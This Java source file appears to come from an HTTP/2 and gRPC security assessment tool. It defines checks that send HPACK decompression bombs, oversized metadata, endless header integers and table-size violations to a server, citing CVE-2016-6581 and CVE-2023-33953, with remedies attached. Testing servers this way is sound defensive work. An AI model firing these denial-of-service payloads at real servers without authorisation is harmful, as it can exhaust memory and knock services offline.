package dev.countersign.assessment;

import java.io.IOException;
import java.net.SocketTimeoutException;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.List;

/** Header blocks that grow, and header blocks that are none. */
final class HeaderBombs extends Abuse {
  private static final int FRAME = 16_000;
  private static final int NEWEST_FIELD = 0x80 | 62;
  private static final int REFERENCES = 14_000;
  private static final int FIELDS = 4_000;

  private final Bomb bomb;

  /** Makes the header block. */
  private interface Bomb {
    HeaderBlock of(String path);
  }

  private HeaderBombs(String name, String tries, String source, Bomb bomb) {
    super(About.of(name, Group.PROTOCOL, Severity.HIGH)
        .tries(tries)
        .safe("The request is refused or the connection ended; no handler sees it.")
        .source(source)
        .remedy("Bound the size of a header list as it is decoded (grpc-java:"
            + " maxInboundMetadataSize)."));
    this.bomb = bomb;
  }

  static List<Check> all() {
    return List.of(
        new HeaderBombs(
            "hpack-bomb",
            "A header block of 18 KiB that decodes to 56 MiB, by references to one field.",
            "CVE-2016-6581; CVE-2023-33953",
            path -> {
              HeaderBlock block = HeaderBlock.request(path).addIndexed("x-bomb", "b".repeat(4000));
              int[] references = new int[REFERENCES];
              Arrays.fill(references, NEWEST_FIELD);
              return block.raw(references);
            }),
        new HeaderBombs(
            "metadata-bomb", "A call with 4000 header fields.", "CVE-2023-33953", path -> {
              HeaderBlock block = HeaderBlock.request(path);
              for (int i = 0; i < FIELDS; i++) {
                block.add("x-field-" + i, "0123456789");
              }
              return block;
            }),
        new HeaderBombs(
            "hpack-overlong-number",
            "A header block with a number that never ends.",
            "RFC 7541 section 5.1; CVE-2023-33953",
            path -> {
              int[] endless = new int[64];
              Arrays.fill(endless, 0xff);
              return HeaderBlock.request(path).raw(endless);
            }),
        new HeaderBombs(
            "hpack-table-size",
            "A header block that makes the table larger than was allowed.",
            "RFC 7541 section 6.3",
            path -> HeaderBlock.afterTableSize(path)));
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, CannotRunException {
    byte[] block = bomb.of(attack.path()).bytes();
    try {
      return attack
          .asAllowed(connection -> {
            int stream = connection.newStream();
            send(connection, stream, block);
            return connection.message(stream, new byte[0]).send().exchange(stream, true);
          })
          .mustNotSucceed("the call was answered");
    } catch (SocketTimeoutException e) {
      return Outcome.finding("neither an answer nor an end of the connection within 10 s");
    }
  }

  private static void send(RawHttp2 connection, int stream, byte[] block) {
    for (int from = 0; from < block.length; from += FRAME) {
      int to = Math.min(block.length, from + FRAME);
      connection.frame(
          from == 0 ? Frame.HEADERS : Frame.CONTINUATION,
          to == block.length ? Frame.END_HEADERS : 0,
          stream,
          Arrays.copyOfRange(block, from, to));
    }
  }
}
